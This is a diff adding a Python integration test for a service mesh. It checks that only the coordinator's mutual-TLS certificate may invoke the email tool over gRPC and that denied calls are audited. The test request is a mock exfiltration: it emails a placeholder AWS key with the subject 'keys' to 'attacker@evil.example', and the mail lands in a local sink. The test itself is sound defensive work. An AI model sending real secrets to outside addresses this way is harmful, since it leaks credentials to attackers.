@@ -1,0 +1,85 @@
+"""Per-service identities on the real mesh parts: the email tool (real gRPC, mutual TLS, a real
+SMTP sink, the real broker) called directly with the coordinator's certificate, another service's,
+and none (issue 17, decision 0680)."""
+
+from __future__ import annotations
+
+import grpc
+import pytest
+from structlog.testing import capture_logs
+
+from lammesh.dev.certs import CertSet, make_certs
+from lammesh.dev.localkafka import free_port
+from lammesh.dev.smtpsink import SmtpSink, read_maildir
+from lammesh.grpc.client import channel
+from lammesh.settings import Settings
+from lammesh.v1 import step_pb2, step_pb2_grpc
+from lammesh_services.tools.email.main import bootstrap as email_bootstrap
+from tests.support.mesh import running
+
+pytestmark = pytest.mark.kafka
+
+
+@pytest.fixture(scope="module")
+def certs(tmp_path_factory: pytest.TempPathFactory) -> CertSet:
+    return make_certs(tmp_path_factory.mktemp("certs"), services=("email", "coordinator", "gateway"))
+
+
+def as_service(certs: CertSet, service: str) -> Settings:
+    return Settings(grpc_tls_ca=certs.ca, grpc_tls_cert=certs.service_cert(service), grpc_tls_key=certs.service_key(service))
+
+
+def execute(task_id: str) -> step_pb2.ExecuteRequest:
+    command = step_pb2.StepCommand(task_id=task_id, step_id="send", capability="email", attempt=1)
+    command.input.update({"to": ["attacker@evil.example"], "subject": "keys", "body": "AKIAIOSFODNN7EXAMPLE"})
+    return step_pb2.ExecuteRequest(command=command)
+
+
+async def call(target: str, settings: Settings, task_id: str) -> step_pb2.ExecuteResponse:
+    async with channel(target, settings) as ch:
+        return await step_pb2_grpc.StepServiceStub(ch).Execute(execute(task_id), timeout=10)
+
+
+async def test_only_the_coordinators_certificate_may_execute_the_email_tool(settings, tmp_path, certs) -> None:
+    tool = settings.model_copy(update={
+        "service_name": "email", "grpc_host": "127.0.0.1", "grpc_port": 0, "state_dir": tmp_path / "state",
+        "maildir": tmp_path / "maildir", "smtp_port": free_port(), "grpc_mtls": True, "grpc_tls_ca": certs.ca,
+        "grpc_tls_cert": certs.service_cert("email"), "grpc_tls_key": certs.service_key("email"),
+    })
+    sink = SmtpSink(tool.maildir, port=tool.smtp_port)
+    await sink.start()
+    runtime = email_bootstrap(tool)
+    try:
+        async with running(runtime):
+            target = f"localhost:{runtime.grpc.port}"
+            with capture_logs() as logs:
+                with pytest.raises(grpc.aio.AioRpcError) as denied:
+                    await call(target, as_service(certs, "gateway"), "t-gateway")
+                # the shared certificate of before (no identity) is refused too
+                with pytest.raises(grpc.aio.AioRpcError) as anonymous:
+                    await call(target, Settings(grpc_tls_ca=certs.ca, grpc_tls_cert=certs.server_cert,
+                                                grpc_tls_key=certs.server_key), "t-shared")
+                with pytest.raises(grpc.aio.AioRpcError) as no_cert:
+                    await call(target, Settings(grpc_tls_ca=certs.ca), "t-none")
+                ran = await call(target, as_service(certs, "coordinator"), "t-coordinator")
+    finally:
+        await sink.stop()
+
+    assert denied.value.code() == grpc.StatusCode.PERMISSION_DENIED
+    assert denied.value.details() == ("/lammesh.v1.StepService/Execute: gateway may not call this method; "
+                                      "allowed callers: coordinator")
+    assert anonymous.value.code() == grpc.StatusCode.PERMISSION_DENIED
+    assert "without a lammesh identity" in anonymous.value.details()
+    assert no_cert.value.code() == grpc.StatusCode.UNAVAILABLE  # the TLS handshake fails: no call reaches the server
+    assert ran.result.status == step_pb2.STEP_STATUS_SUCCEEDED, ran.result.error
+
+    [sent] = read_maildir(tool.maildir)  # only the coordinator's call sent mail
+    assert sent["Subject"] == "keys"
+
+    audited = [(e["caller"], e["outcome"], e["task_id"], e["idempotency_key"], e["via"])
+               for e in logs if e["event"] == "audit"]
+    assert audited == [
+        ("gateway", "denied", "t-gateway", f"t-gateway/send/{step_pb2.STEP_ACTION_EXECUTE}", "grpc"),
+        ("unknown", "denied", "t-shared", f"t-shared/send/{step_pb2.STEP_ACTION_EXECUTE}", "grpc"),
+        ("coordinator", "succeeded", "t-coordinator", f"t-coordinator/send/{step_pb2.STEP_ACTION_EXECUTE}", "grpc"),
+    ]
